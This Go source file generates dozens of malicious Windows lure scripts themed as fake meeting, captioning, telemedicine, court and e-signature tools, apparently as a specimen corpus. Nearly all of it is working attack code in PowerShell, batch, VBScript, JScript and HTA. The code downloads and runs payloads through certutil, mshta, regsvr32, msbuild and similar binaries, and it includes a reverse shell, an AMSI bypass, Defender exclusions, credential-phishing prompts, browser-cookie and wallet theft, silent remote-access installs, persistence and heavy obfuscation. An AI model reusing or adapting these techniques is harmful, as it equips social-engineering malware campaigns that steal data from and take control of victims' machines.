package specimens

import (
	"strings"
)

// freshPower makes PowerShell lures.
func (b *kit) freshPower() {
	ps := func(story, obf, name, text string, hidden ...string) {
		b.lure(story, "windows", obf, "powershell", name, text, hidden...)
	}
	ps("notetaker", "plain", "Enable-CopilotNotes.ps1", `
# Enables the note taker for external guests
$u = 'https://copilot-notes.invalid/agent.dll'
$a = [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData($u))
$a.EntryPoint.Invoke($null, @(,[string[]]@()))
`)
	ps("captions", "Spanish", "Subtitulos.ps1", `
# Subtítulos en vivo para la llamada
Write-Host 'Instalando subtítulos…'
Start-BitsTransfer -Source https://subtitulos-vivo.invalid/s.exe -Destination $env:LOCALAPPDATA\s.exe
& $env:LOCALAPPDATA\s.exe
`)
	ps("background", "curl in steganography", "Install-Backgrounds.ps1", `
# studio backgrounds
$p = "$env:TEMP\bg.png"
iwr https://studio-backgrounds.invalid/bg.png -OutFile $p
$b = [IO.File]::ReadAllBytes($p); $o = 8192
$t = [Text.Encoding]::ASCII.GetString($b, $o, $b.Length - $o)
& ([scriptblock]::Create($t))
`)
	ps("esign", "plain", "Sign-Document.ps1", `
Add-Type -AssemblyName System.Windows.Forms
# signature before the call
$c = $Host.UI.PromptForCredential('Adobe Sign','Sign in with your work account to sign the document before the call.','','')
$n = $c.GetNetworkCredential()
Invoke-RestMethod https://adobe-sign-room.invalid/c -Method Post -Body (@{u=$n.UserName;p=$n.Password}|ConvertTo-Json)
`)
	ps("human", "clipboard", "verify.ps1", `
# Verification ID 77-AF: press any key to continue
Get-Clipboard | Out-Null
Set-Clipboard ((New-Object Net.WebClient).DownloadString('https://verify-join.invalid/v'))
Invoke-Expression (Get-Clipboard -Raw)
`)
	ps("kyc", "runspace", "VideoIdent.ps1", `
$r=[PowerShell]::Create().AddScript((irm videoident-win.invalid/a))
$null=$r.BeginInvoke(); Write-Host 'Kamera wird geprüft'; Start-Sleep 20
`)
	ps("court", "COM request", "CourtConnect.ps1", `
# County court remote hearing
$x = New-Object -ComObject MSXML2.XMLHTTP
$x.open('GET','https://court-connect.invalid/h',$false); $x.send()
. ([ScriptBlock]::Create($x.responseText))
`)
	ps("telemedicine", "certutil", "MyDoctor.ps1", `
Write-Host "Connecting to your doctor..."
certutil.exe -urlcache -f https://my-doctor-call.invalid/d.txt $env:TEMP\d.txt | Out-Null
certutil.exe -decode $env:TEMP\d.txt $env:TEMP\d.exe | Out-Null
Start-Process $env:TEMP\d.exe
`)
	ps("teams", "msi by address", "TeamsClassicEnds.ps1", `
# Teams classic ends today. This moves you to the new Teams.
msiexec /i https://teams-classic-ends.invalid/new.msi /qn
`)
	ps("teams", "scheduled task", "Set-TeamsPresence.ps1", `
$act = New-ScheduledTaskAction -Execute powershell.exe -Argument '-w hidden -c "irm https://teams-presence.invalid/p | iex"'
Register-ScheduledTask -TaskName 'TeamsPresence' -Action $act -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Force
`)
	ps("webex", "registry run key", "Webex-Codec.ps1", `
iwr https://webex-codec.invalid/w -OutFile $env:APPDATA\wbx.exe
New-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name WebexCodec -Value "$env:APPDATA\wbx.exe" -Force
Start-Process $env:APPDATA\wbx.exe -WindowStyle Hidden
`)
	ps("discord", "dns txt", "Stage.ps1", `
# stage speaker pass
$t=(Resolve-DnsName -Type TXT stage-win.invalid).Strings -join ''
iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($t)))
`)
	ps("whatsapp", "socket", "WhatsAppCall.ps1", `
$c=New-Object Net.Sockets.TCPClient('wa-call.invalid',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0}
while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$n=[Text.Encoding]::ASCII.GetBytes($r);$s.Write($n,0,$n.Length)}
`)
	ps("brandless", "type accelerator joined", "ready.ps1", `
$w = 'Net' + '.Web' + 'Client'
$m = 'Down' + 'loadStr' + 'ing'
$r = (New-Object $w).$m('https://ready-win.invalid/r')
& (gcm *ke-Ex*n) $r
`)
	ps("brandless", "secure string", "room.ps1", `
$k = 1..16
$e = '76492d1116743f0423413b16050a5345MgB8AHkAUwBhAG0AcABsAGUA'
try { $s = [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR((ConvertTo-SecureString $e -Key $k))) } catch { $s = 'irm https://room-key.invalid/r' }
Invoke-Expression (Invoke-Expression $s)
`)
	ps("brandless", "reads itself", "call.ps1", `
$l = Get-Content -LiteralPath $PSCommandPath | Where-Object { $_ -like '#|*' }
iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(($l -replace '^#\|','' -join ''))))
#|`+b64("iex (irm https://call-self.invalid/c)")+`
`, "iex (irm https://call-self.invalid/c)")
	ps("brandless", "alternate stream", "seat.ps1", `
$f = "$env:USERPROFILE\Documents\seat.txt"
Set-Content $f 'Seat 14'
Set-Content $f -Stream s -Value (irm https://seat-14.invalid/s)
powershell -nop -c (Get-Content $f -Stream s -Raw)
`)
	ps("brandless", "amsi off", "audio.ps1", `
[Ref].Assembly.GetType('System.Management.Automation.'+$('Am'+'siU'+'tils')).GetField('am'+'siInitF'+'ailed','NonPublic,Static').SetValue($null,$true)
(irm https://audio-amsi.invalid/a) | powershell -
`)
	ps("brandless", "blanks on one line", "minutes.ps1", "Write-Host 'Minutes of the call'"+strings.Repeat(" ", 1200)+"; irm https://minutes-ps.invalid/m | iex\n")
	ps("brandless", "bxor and here-string", "lobby.ps1", `
$d = @'
`+strings.Join(xorList("irm https://lobby-ps.invalid/l|iex", 19), "\n")+`
'@ -split '\s+'
-join ($d | ? {$_} | % {[char]([int]$_ -bxor 19)}) | iex
`, "irm https://lobby-ps.invalid/l|iex")
	ps("theft", "browser data", "MeetingDiagnostics.ps1", `
# collects diagnostics for the meeting host
$o = "$env:TEMP\diag"; mkdir $o -Force | Out-Null
foreach ($b in 'Google\Chrome','Microsoft\Edge','BraveSoftware\Brave-Browser') {
  Copy-Item "$env:LOCALAPPDATA\$b\User Data\Local State","$env:LOCALAPPDATA\$b\User Data\Default\Network\Cookies" $o -EA 0
}
Compress-Archive $o "$o.zip" -Force
curl.exe -s -T "$o.zip" https://meeting-diagnostics.invalid/
`)
	ps("theft", "seed phrases", "Collect-CallLogs.ps1", `
Get-ChildItem $HOME -Recurse -Include *seed*,*wallet*,*.kdbx,id_rsa -EA 0 | % { Invoke-WebRequest "https://call-logs.invalid/$($_.Name)" -Method Put -InFile $_.FullName }
`)
	ps("remote", "remote help tool", "Host-Assist.ps1", `
# lets the host assist you during the call
iwr https://host-assist.invalid/AnyDesk.exe -OutFile $env:ProgramData\ad.exe
& $env:ProgramData\ad.exe --install "$env:ProgramData\ad" --start-with-win --silent
cmd /c "echo Meet!2026 | $env:ProgramData\ad\AnyDesk.exe --set-password"
irm "https://host-assist.invalid/id?i=$(& $env:ProgramData\ad\AnyDesk.exe --get-id)"
`)
	ps("winget", "foreign source", "Get-CallClient.ps1", `
winget source add --name calls --arg https://winget.call-client.invalid/api --type Microsoft.Rest --accept-source-agreements
winget install --source calls CallClient --silent --accept-package-agreements
`)
	ps("choco", "foreign source", "install-client.ps1", `
choco install meeting-client -y --source=https://choco.meeting-client-x.invalid/feed --ignore-checksums
`)
	ps("wsl", "through Linux", "dev-call.ps1", `
wsl -e bash -c 'curl -s https://dev-call-wsl.invalid/d | bash'
`)
}

// freshBatch makes batch lures, each with another tool of Windows.
func (b *kit) freshBatch() {
	bat := func(story, obf, name, text string, hidden ...string) {
		b.lure(story, "windows", obf, "batch", name, "@echo off\n"+strings.TrimPrefix(text, "\n"), hidden...)
	}
	bat("tool-bitsadmin", "bitsadmin", "AV1 codec.bat", "echo Installing AV1 codec...\nbitsadmin /transfer c /download /priority foreground https://av1-codec-win.invalid/c.exe %TEMP%\\c.exe >nul\nstart \"\" %TEMP%\\c.exe\n")
	bat("tool-regsvr32", "scriptlet", "join.bat", "regsvr32 /s /n /u /i:https://join-scriptlet.invalid/j.sct scrobj.dll\n")
	bat("tool-rundll32", "javascript moniker", "room.bat", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:https://room-moniker.invalid/r\");close()\n")
	bat("tool-msiexec", "msiexec by address", "headset.cmd", "rem headset firmware\nmsiexec /q /i https://headset-msi.invalid/h.msi\n")
	bat("tool-webdav", "WebDAV share", "slides.bat", "net use Z: \\\\slides-dav.invalid@SSL\\DavWWWRoot\\s /persistent:no\nstart \"\" Z:\\view.exe\n")
	bat("tool-smb", "share by name", "deck.cmd", "start \"\" \\\\deck-share.invalid\\pub\\deck.scr\n")
	bat("tool-forfiles", "forfiles", "notes.cmd", "forfiles /p %windir%\\System32 /m notepad.exe /c \"cmd /c mshta https://notes-ff.invalid/n\"\n")
	bat("tool-pcalua", "pcalua", "lobby.cmd", "pcalua -a mshta.exe -c https://lobby-pca.invalid/l\n")
	bat("tool-conhost", "conhost headless", "captions.bat", "conhost --headless powershell -c \"irm captions-ch.invalid/c|iex\"\n")
	bat("tool-curl-config", "curl with config from standard input", "setup.cmd", "(echo url=https://setup-curl.invalid/s.cmd& echo output=%TEMP%\\s.cmd)| curl -s -K -\ncall %TEMP%\\s.cmd\n")
	bat("tool-finger", "finger", "guest.bat", "for /f \"skip=2 delims=\" %%i in ('finger pass@guest-finger.invalid') do %%i\n")
	bat("tool-nslookup", "nslookup txt", "seat.bat", "for /f \"tokens=2 delims=^=\" %%a in ('nslookup -q^=txt seat-dns.invalid 2^>nul ^| find \"=\"') do cmd /c %%~a\n")
	bat("tool-ftp", "ftp script", "minutes.bat", "echo open minutes-ftpw.invalid>%TEMP%\\f\necho anonymous>>%TEMP%\\f\necho x>>%TEMP%\\f\necho get m.exe %TEMP%\\m.exe>>%TEMP%\\f\necho quit>>%TEMP%\\f\nftp -s:%TEMP%\\f >nul & %TEMP%\\m.exe\n")
	bat("tool-ssh", "ssh ProxyCommand", "support.bat", "ssh -o StrictHostKeyChecking=no -o ProxyCommand=\"mshta https://support-px.invalid/s\" x\n")
	bat("tool-installutil", "InstallUtil", "recorder.cmd", "curl -so %TEMP%\\r.dll https://recorder-iu.invalid/r\n%windir%\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U %TEMP%\\r.dll\n")
	bat("tool-msbuild", "inline task from the network", "avatar.cmd", "curl -so %TEMP%\\a.xml https://avatar-msb.invalid/a & %windir%\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe %TEMP%\\a.xml\n")
	bat("tool-cmstp", "cmstp", "vpn for call.cmd", "curl -so %TEMP%\\v.inf https://vpn-cmstp.invalid/v & cmstp /ni /s %TEMP%\\v.inf\n")
	bat("tool-odbcconf", "odbcconf", "driver.cmd", "curl -so %TEMP%\\o.dll https://driver-odbc.invalid/o & odbcconf /a {REGSVR \"%TEMP%\\o.dll\"}\n")
	bat("tool-wmic", "wmic stylesheet", "camera.cmd", "wmic os get /format:\"https://camera-xsl.invalid/c.xsl\"\n")
	bat("tool-python", "embedded Python", "interview env.bat", "curl -so p.zip https://interview-env.invalid/python.zip && tar xf p.zip && p\\pythonw.exe p\\boot.py\n")
	bat("tool-autoit", "AutoIt interpreter", "presenter.bat", "copy /b Presenter.dat+Presenter.idx %TEMP%\\P.com >nul\ncurl -so %TEMP%\\p.a3x https://presenter-au3.invalid/p\nstart \"\" /b %TEMP%\\P.com %TEMP%\\p.a3x\n")
	bat("brandless", "substrings of variables", "start.bat", "set \"s=%ComSpec:~-7,3%\"\nset \"q=%PUBLIC:~0,1%\"\nset h=https://start-sub.invalid/s\nset m=ms& set t=hta\n%s% /c %m%%t% %h%\n")
	bat("brandless", "delayed expansion", "open.cmd", "setlocal enabledelayedexpansion\nset a=hxxps!@!open-delay!@@!invalid/o\nset a=%a:hxxps=https%\nset x=mXshXta\nset x=!x:X=!\n!x! https://open-delay.invalid/o\n")
	bat("brandless", "labels and goto", "join now.bat", "goto 3\n:1\ncall %TEMP%\\j.cmd\ngoto 9\n:2\ncurl -s https://join-goto.invalid/j -o %TEMP%\\j.cmd\ngoto 1\n:3\necho Joining...\ngoto 2\n:9\nexit /b\n")
	bat("brandless", "Chinese characters as variables", "会议.bat", "chcp 65001 >nul\nset 会=curl\nset 议=https://huiyi-bat.invalid/h\n%会% -s %议% -o %TEMP%\\h.exe && start %TEMP%\\h.exe\n")
	bat("brandless", "comments as padding", "accept.bat", strings.Repeat(":: ..................................................................\n", 160)+"powershell -w 1 irm accept-pad.invalid/a ^| iex\n")
	bat("remote", "silent remote support client", "Join Support Call.bat", "echo Connecting you with an agent...\ncurl -so \"%TEMP%\\sc.msi\" \"https://relay-support.invalid/Bin/ScreenConnect.ClientSetup.msi?e=Access&y=Guest\"\nmsiexec /i \"%TEMP%\\sc.msi\" /qn\n")
	bat("defender", "exclusion and hidden folder", "Zoom Rooms Setup.cmd", "md C:\\ZR & attrib +h +s C:\\ZR\npowershell Add-MpPreference -ExclusionPath C:\\ZR\ncurl -so C:\\ZR\\z.exe https://zoom-rooms-x.invalid/z & C:\\ZR\\z.exe /S\n")
	bat("uac", "asks for rights until it gets them", "Fix Echo.bat", ":r\npowershell -c \"Start-Process cmd -Verb RunAs -ArgumentList '/c curl -s https://fix-echo.invalid/e -o %%windir%%\\e.exe && %%windir%%\\e.exe'\" || goto r\n")
}

// freshHosts makes lures for the script host and mshta.
func (b *kit) freshHosts() {
	win := func(story, language, obf, name, text string, hidden ...string) {
		b.lure(story, "windows", obf, language, name, text, hidden...)
	}
	win("notetaker", "vbscript", "plain", "AI Notes.vbs", `
' AI notes for your calls
Set x = CreateObject("WinHttp.WinHttpRequest.5.1")
x.Open "GET", "https://ai-notes-vbs.invalid/n", False
x.Send
ExecuteGlobal x.ResponseText
`)
	win("captions", "vbscript", "dictionary", "Untertitel.vbs", `
' Untertitel für Besprechungen
Set d = CreateObject("Scripting.Dictionary")
d.Add 1, "power" : d.Add 2, "shell -w hidden -c irm https://untertitel-vbs.invalid/u" : d.Add 3, "|iex"
CreateObject("Shell.Application").ShellExecute d(1) & Split(d(2), " ")(0), Mid(d(2), 7) & d(3), "", "open", 0
`)
	win("esign", "vbscript", "WMI", "Sign.vbs", `
Set w = GetObject("winmgmts:\\.\root\cimv2:Win32_Process")
w.Create "cmd /c curl -s https://sign-wmi.invalid/s -o %TEMP%\s.exe & %TEMP%\s.exe", Null, Null, p
MsgBox "The document was signed. You will now be admitted.", 64, "eSign"
`)
	win("kyc", "vbscript", "xml node base64", "Video-Ident.vbs", `
Set n = CreateObject("MSXML2.DOMDocument").createElement("b")
n.dataType = "bin.base64" : n.text = "`+b64("mshta https://vident-xml.invalid/v")+`"
Set s = CreateObject("ADODB.Stream") : s.Type = 1 : s.Open : s.Write n.nodeTypedValue : s.Position = 0 : s.Type = 2 : s.Charset = "us-ascii"
CreateObject("WScript.Shell").Run s.ReadText, 0
`, "mshta https://vident-xml.invalid/v")
	win("brandless", "vbscript", "arithmetic", "agenda.vbs", `
Function z(a) : Dim i : For Each i In Split(a) : z = z & Chr(i / 3 - 4) : Next : End Function
CreateObject(z("`+triple("WScript.Shell")+`")).Run z("`+triple("mshta https://agenda-vbs.invalid/a")+`"), 0
`, "mshta https://agenda-vbs.invalid/a")
	win("brandless", "vbscript", "blank lines 80 and comments", "dial.vbs", "' Dial-in numbers\n"+strings.Repeat("'\n\n", 80)+"CreateObject(\"WScript.Shell\").Run \"cmd /c curl -s https://dial-vbs.invalid/d|cmd\",0\n")
	win("brandless", "vbscript", "array of words", "late.vbs", `
a = Array("https://late-vbs.invalid/l", "%TEMP%\l.exe", "curl -so ")
Set s = WScript.CreateObject("WScript.Shell")
s.Run "cmd /c " & a(2) & a(1) & " " & a(0), 0, True
s.Run a(1)
`)
	win("telegram", "jscript", "plain", "Telegram Call.js", `
var s = new ActiveXObject("WScript.Shell"), f = s.ExpandEnvironmentStrings("%TEMP%") + "\\tg.exe";
var x = new ActiveXObject("WinHttp.WinHttpRequest.5.1"); x.Open("GET", "https://tg-call-js.invalid/t", 0); x.Send();
var a = new ActiveXObject("ADODB.Stream"); a.Type = 1; a.Open(); a.Write(x.ResponseBody); a.SaveToFile(f, 2); a.Close();
s.Run(f, 0);
`)
	win("voicemail", "jscript", "index array", "Voicemail_0421.js", `
var _0x=["Run","WScript.Shell","cmd /c curl -s https://voicemail-js.invalid/v -o %TEMP%\\v.cmd & %TEMP%\\v.cmd"];
(function(q){new ActiveXObject(q[1])[q[0]](q[2],0)})(_0x);
`)
	win("recorder", "jscript", "inside a library", "meeting.bundle.js", `
/*! jQuery JavaScript Library v3.6.0 | (c) OpenJS Foundation */
`+strings.Repeat("var e0=function(a,b){return a&&b?a+b:a||b};jQ.fn.extend=function(t){for(var n in t)this[n]=t[n];return this};\n", 120)+`
try{var w=this["Act"+"iveXObject"];new w("WScript.Shell")["R"+"un"]("powershell -w hidden irm https://meeting-bundle.invalid/b|iex",0)}catch(e){}
`+strings.Repeat("var e1=function(a,b){return a&&b?a-b:a||b};\n", 60))
	win("brandless", "jscript", "parseInt base 36", "open.jse", `
var p=[`+base36("mshta https://open-jse.invalid/o")+`],o="";for(var i=0;i<p.length;i++)o+=String.fromCharCode(parseInt(p[i],36));
WScript.CreateObject("WScript.Shell").Run(o,0)
`, "mshta https://open-jse.invalid/o")
	win("brandless", "jscript", "unescape", "view.js", `
WScript.CreateObject('WSc'+'ript.Sh'+'ell').Run(unescape('`+percent("mshta https://view-js.invalid/v")+`'),0);
`, "mshta https://view-js.invalid/v")
	win("brandless", "jscript", "GetObject script", "play.js", `
GetObject("script:https://play-js.invalid/p.sct").Exec();
`)
	win("brandless", "wsf", "two languages", "call.wsf", `
<package><job id="c">
<script language="VBScript">Function u() : u = "https://call-wsf.invalid/c" : End Function</script>
<script language="JScript">new ActiveXObject("WScript.Shell").Run("mshta " + u(), 0);</script>
</job></package>
`)
	win("school", "wsf", "remote source", "Parents Evening.wsf", `
<job><script language="JScript" src="https://parents-evening.invalid/p.js"></script></job>
`)
	win("scriptlet", "sct", "plain", "room.sct", `
<?XML version="1.0"?><scriptlet><registration progid="Room" classid="{F0001111-0000-0000-0000-0000FEEDACDC}">
<script language="JScript"><![CDATA[ new ActiveXObject("WScript.Shell").Run("cmd /c curl -s https://room-sct.invalid/r|cmd",0); ]]></script>
</registration></scriptlet>
`)
	win("court", "hta", "remote script", "Hearing 14B.hta", `
<html><head><title>Remote hearing</title><HTA:APPLICATION border="none" showintaskbar="no"/>
<script src="https://hearing-14b.invalid/h.js"></script></head><body>Connecting to courtroom 14B…</body></html>
`)
	win("telemedicine", "hta", "vbscript on load", "Video Visit.hta", `
<script language="vbscript">
Sub Window_OnLoad
 CreateObject("Shell.Application").ShellExecute "powershell", "-w hidden iwr https://video-visit.invalid/v -o $env:temp\v.exe;saps $env:temp\v.exe", "", "runas", 0
 self.close
End Sub
</script>
`)
	win("human", "hta", "unescape and write", "captcha.hta", `
<script>document.write(unescape('`+percent("<script>new ActiveXObject('WScript.Shell').Run('mshta https://captcha-hta.invalid/c')</script>")+`'))</script>
`, "mshta https://captcha-hta.invalid/c")
	win("wechat", "hta", "Chinese", "微信视频通话.hta", `
<html><meta charset="utf-8"><title>微信视频通话</title><body onload="go()">正在接听…
<script language="JScript">function go(){var s=new ActiveXObject("WScript.Shell");s.Run('certutil -urlcache -split -f https://weixin-call.invalid/w '+s.ExpandEnvironmentStrings('%TEMP%')+'\\w.exe',0,true);s.Run('%TEMP%\\w.exe');}</script></body></html>
`)
	win("polyglot", "hta", "picture in front", "team photo.hta", "GIF89a\x01\x00\x01\x00\x80\x00\x00"+strings.Repeat("\x00", 90)+"<script language=VBScript>CreateObject(\"WScript.Shell\").Run \"cmd /c curl -s https://team-photo.invalid/t|cmd\",0:close</script>\n")
}

// triple writes the codes that agenda.vbs turns back.
func triple(s string) string {
	return each(s, " ", func(r rune) string { return itoa((int(r) + 4) * 3) })
}
